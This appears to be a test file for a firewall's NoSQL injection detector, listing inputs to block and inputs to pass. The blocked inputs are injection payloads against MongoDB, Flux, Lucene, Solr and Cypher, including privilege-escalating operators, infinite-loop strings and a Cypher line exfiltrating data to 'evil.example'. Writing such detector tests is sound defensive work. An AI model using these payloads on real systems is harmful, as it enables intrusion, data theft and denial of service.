// What changes no document, and what goes on behind a string of Flux.
import { test } from 'node:test';
import { detectNosql } from '../../../../src/guard/decide/waf/detect/nosql/nosql.ts';
import { blocks, passes } from '../judged.ts';

test('an operator of an update that names no fields changes nothing, and passes', () => {
  blocks(detectNosql, [
    '{"$set":{"role":"admin"}}',
    '{"$inc": {"credit": 100}}',
    '{"$unset":"password"}',
    '{"$push":{"roles":"admin"}}',
    '{"all":{"$push":"$password"}}',
  ]);
  passes(detectNosql, ['{"$set": 1}', '{"$push":"x"}', '{"$set": "blue", "$inc": -1}', '{"$rename": null}']);
});

test('a query of Flux behind a string that the value leaves is an attack, a whole one is anybody’s', () => {
  blocks(detectNosql, [
    'x") |> yield() from(bucket:"_monitoring") |> range(start:0) //',
    'x\' | from(bucket:"_monitoring") //',
    'cpu") |> yield(name: "a") b = buckets() //',
  ]);
  passes(detectNosql, [
    'from(bucket:"a") |> range(start:-1h) |> filter(fn: (r) => r.host == "x")',
    'the "cpu" from(bucket) of last week',
    '"blue" bucket (5 l) from "Tools"',
  ]);
});

test('a pipe of Flux that throws away or writes elsewhere, behind a string, is an attack', () => {
  blocks(detectNosql, [
    '") |> drop(columns: ["a"]) //',
    'cpu") |> filter(fn: (r) => true) |> to(bucket: "x") //',
    'x") |> to(bucket: "x") //',
  ]);
  passes(detectNosql, [
    '"a" |> String.upcase() |> IO.puts()',
    '("x") |> limit(2) // first two',
    'from(bucket:"a") |> drop(columns: ["b"]) // tidy',
  ]);
});

test('groups of Lucene that are left, queries within queries of Solr and procedures behind a condition are attacks', () => {
  blocks(detectNosql, [
    'username:admin) OR (1:1',
    'title:foo) AND (body:*',
    'password:* OR 1',
    `_query_:"{!xmlparser v='x'}"`,
    "1 OR 1=1 WITH 1 as a CALL db.labels() YIELD label LOAD CSV FROM 'http://evil.example/'+label as l RETURN 0 //",
    '7 AND 1=1 CALL dbms.procedures()',
  ]);
  passes(detectNosql, [
    'password:*',
    'tokens:*',
    '(title:foo) OR (body:bar)',
    'status:open AND (owner:me OR owner:you)',
    'please OR else CALL db.support (x)',
    '1 or 2 call db.open(x)',
    '_query_: all',
  ]);
});

test('a loop without end behind a string that the value leaves is an attack', () => {
  blocks(detectNosql, [
    "' + (function(){while(1);})() + '",
    "x';while(true){}//",
    "' || (() => { for(;;); })() || '",
  ]);
  passes(detectNosql, ['while(1);', 'for(;;){}', "it's a loop: while(1)", "const f = 'a'; // while(1)"]);
});

test('operators that only MongoDB and its likes have are attacks, whatever they change or ask', () => {
  blocks(detectNosql, [
    '{"$setOnInsert":{"role":"admin"}}',
    '{"$pullAll":{"roles":["user"]}}',
    '{"password":{"$bitsAllClear":0}}',
    '{"user":{"$func":"var_dump"}}',
  ]);
  passes(detectNosql, [
    '{"$min":1,"$max":9}',
    '{"$set_once":{"plan":"a"}}',
    '{"func":"sum"}',
    '{"$type":"Shop.Order"}',
  ]);
});
